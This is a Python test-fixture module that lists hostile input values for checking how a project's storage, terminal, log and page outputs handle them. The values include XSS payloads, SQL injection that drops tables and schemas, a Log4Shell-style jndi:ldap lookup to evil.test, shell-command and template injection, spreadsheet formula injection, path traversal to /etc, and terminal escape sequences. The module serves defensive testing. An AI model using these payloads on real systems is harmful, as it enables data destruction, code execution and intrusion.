r"""Values that are code, markup, formulas, control sequences or paths somewhere. The one list of
them: tests of files, services, tables, the terminal, logs, pages and downloads use it.

Parts of it repeat the mark HOSTILE, so that a test can tell whether a value is in an output.
"""

from __future__ import annotations

import unicodedata
from collections.abc import Mapping
from itertools import chain

MARK = "HOSTILE"

MARKUP = (
    f"<script>alert('{MARK}')</script> & \"$\\frac{{1}}{{2}}$\"",
    f"<img src=x onerror=alert('{MARK}')>",
    f"</svg></td></script><iframe src=javascript:alert('{MARK}')>",
    f"' onmouseover='alert({MARK})",
    f'" autofocus onfocus="alert({MARK})',
    f"[{MARK}](javascript:alert(1))",
    f"![{MARK}](http://evil.test/x.png)",
    f":red[{MARK}] :material/bolt: $\\frac{{1}}{{2}}$ **bold** `code` | a | b |",
    f"&lt;script&gt;{MARK}&#60;b&#62;",
)
"""HTML, JavaScript, Markdown, TeX."""

SQL = (
    f"'; DROP TABLE pools; -- {MARK}",
    f"{MARK}' OR '1'='1",
    f"$$; SELECT pg_sleep(9); $$ {MARK}",
    f"{MARK}\\'; DELETE FROM pool_daily_metrics; /*",
    f'{MARK}"; DROP SCHEMA yieldspark CASCADE; --',
    f"%_{MARK}%' ESCAPE '!",
)

TERMINAL = (
    f"\x1b[2J\x1b[31m{MARK}",
    f"\x1b]0;{MARK}\x07",
    f"\x1b]8;;http://evil.test\x1b\\{MARK}\x1b]8;;\x1b\\",
    f"\x9b31m{MARK}\x9d8;;http://x\x9c",
    f"real\r{MARK}",
    f"{MARK}\x08\x08\x08\x7f",
    f"\u202egnp.{MARK}",
    f"\u2066{MARK}\u2069\u061c",
)
"""Escape sequences (also of one byte), overwritten lines, changed order of text."""

LOG_LINES = (
    f"{MARK}\n2026-01-01 00:00:00,000 INFO forged: all is well",
    f'{MARK}"}}\n{{"event": "forged", "severity": "INFO"}}',
    f"{MARK}\r\nERROR forged",
    f"{MARK}\u2028INFO forged\u2029\x85\x0b\x0cINFO forged",
)

FORMULAS = (
    f'=HYPERLINK("http://evil.test","{MARK}")',
    f"+cmd|' /C calc'!{MARK}",
    f"-1+1+cmd|{MARK}",
    f"@SUM(1+1)*cmd|{MARK}",
    f"\t=1+1 {MARK}",
    f"\r=1+1 {MARK}",
    f"\n=1+1 {MARK}",
    f"＝1+1 {MARK}",
)
"""Cells that a spreadsheet would compute."""

PATHS = (
    f"../../../../etc/{MARK}",
    f"..\\..\\{MARK}",
    f"/etc/{MARK}",
    f"file:///etc/{MARK}",
    f"%2e%2e%2f{MARK}",
    f"{MARK}?query=1#fragment",
    f"C:\\{MARK}:stream",
)

FORMATS = (
    f"%s %(x)s %n {MARK}",
    f"{{0.__class__}} {{{MARK}}} {{{{ 7*7 }}}} ${{7*7}}",
    f"$(touch {MARK}) `id` ; id & id | id",
    f"${{jndi:ldap://evil.test/{MARK}}}",
    f"[bold]{MARK}[/bold] [link=http://evil.test]x[/link]",
)
"""Texts that formatting, templates, shells and Rich would expand."""

INVISIBLE = (
    f"a\u200bb\u200c\u200d\ufeff{MARK}",
    f"a\u00ad\u2060\u180e{MARK}",
    f"{MARK}\U000e0041\U000e007f\ufff9",
)

LONG = (f"{MARK} " + "x" * 1_900, f"{MARK}" + "🦙" * 400)
"""Near the limit of a key, in bytes."""

KINDS: Mapping[str, tuple[str, ...]] = {
    "markup": MARKUP,
    "sql": SQL,
    "terminal": TERMINAL,
    "log_lines": LOG_LINES,
    "formulas": FORMULAS,
    "paths": PATHS,
    "formats": FORMATS,
    "invisible": INVISIBLE,
    "long": LONG,
}

HOSTILE_VALUES = tuple(chain.from_iterable(KINDS.values()))
"""Values that a text column can store."""

UNSTORABLE = (f"{MARK}\0", f"{MARK}\ud800", f"\udfff{MARK}")
"""NUL and half surrogate pairs, which PostgreSQL rejects."""

HAVE_NO_SHAPE = {"Cc", "Cf", "Cs", "Zl", "Zp"}
"""Categories of Unicode whose characters control or hide text."""


def unsafe_signs(text: str, *, but: str = "\n") -> list[str]:
    """Return the characters of an output that control a terminal or hide text.

    Args:
        text: the output.
        but: characters that it may have.
    """
    return [
        sign for sign in text if sign not in but and unicodedata.category(sign) in HAVE_NO_SHAPE
    ]
